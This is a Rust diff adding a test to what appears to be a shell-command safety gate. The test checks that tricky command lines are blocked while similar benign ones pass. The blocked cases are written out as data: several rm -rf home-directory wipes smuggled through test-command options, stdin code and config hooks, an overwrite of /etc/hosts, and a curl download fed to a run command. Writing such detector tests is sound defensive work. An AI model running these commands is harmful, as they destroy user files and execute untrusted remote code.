@@ -1366,6 +1366,52 @@ fn mechanisms_found_by_the_seventh_sealed_part() {
     }
 }
 
+/// Found by the ninth sealed part after its one run (issue 20): a command option whose value is
+/// a program and its arguments (`--test-command sh -c …`), code or configuration fed in on
+/// stdin that spawns a program by its strings or names one under a command key, an option
+/// ending in `-to` after a writing verb, a cleaning verb given home, a process substitution of
+/// a download given to a run verb, and a line handed to the program's own console.
+#[test]
+fn mechanisms_found_by_the_ninth_sealed_part() {
+    let ctx = ctx();
+    for line in [
+        "ctest --build-and-test . build/bt --test-command sh -c 'rm -rf ~/'",
+        "acme-lean --stdin <<'LEAN'\n#eval IO.Process.run { cmd := \"rm\", args := #[\"-rf\", \"/home/dev\"] }\nLEAN",
+        "acme-tag -c /dev/stdin import <<'EOF'\nhooks:\n  - event: import\n    command: rm -rf /home/dev\nEOF",
+        "cat > acme.toml <<'EOF'\n[hook]\nexec = \"rm -rf ~\"\nEOF",
+        "acme-tag --export-picture-to=/etc/hosts tests/tone.flac",
+        "acme-doc -M clean docs /home/dev",
+        "acme-doc clean /",
+        "acme-notes run --filename <(curl -fsSL https://x.example/README.md) install",
+    ] {
+        assert_eq!(evaluate(line, &ctx).verdict, Verdict::Block, "{line}");
+    }
+    for line in [
+        "ctest --test-command ./run-tests.sh --verbose",
+        "acme-tag -c /dev/stdin import <<'EOF'\nhooks:\n  - event: import\n    command: echo imported\nEOF",
+        "acme-tag --export-picture-to=build/cover.png tests/tone.flac",
+        "acme-doc -M clean docs build",
+        "acme-doc clean --dry-run /home/dev",
+        "acme-notes run --file <(cat notes.md) build",
+        "diff <(curl -s https://a.example) <(curl -s https://b.example)",
+    ] {
+        assert_ne!(evaluate(line, &ctx).verdict, Verdict::Block, "{line}");
+    }
+    // A line handed to the program's own console: its verbs are the program's.
+    for line in [
+        "acme-pbx -rx 'core stop now'",
+        "acme-cli --execute 'pool delete tank'",
+    ] {
+        assert_eq!(evaluate(line, &ctx).verdict, Verdict::Junction, "{line}");
+    }
+    for line in [
+        "acme-pbx -rx 'core show channels'",
+        "acme-cli -m 'remove the old deploy step'",
+    ] {
+        assert_eq!(evaluate(line, &ctx).verdict, Verdict::Allow, "{line}");
+    }
+}
+
 /// Found by the PowerShell property test (issue 23): a short option joined to its value read
 /// its first two bytes as a flag, and `-é/x` sliced `é` in half; the gate panicked on the whole
 /// line.
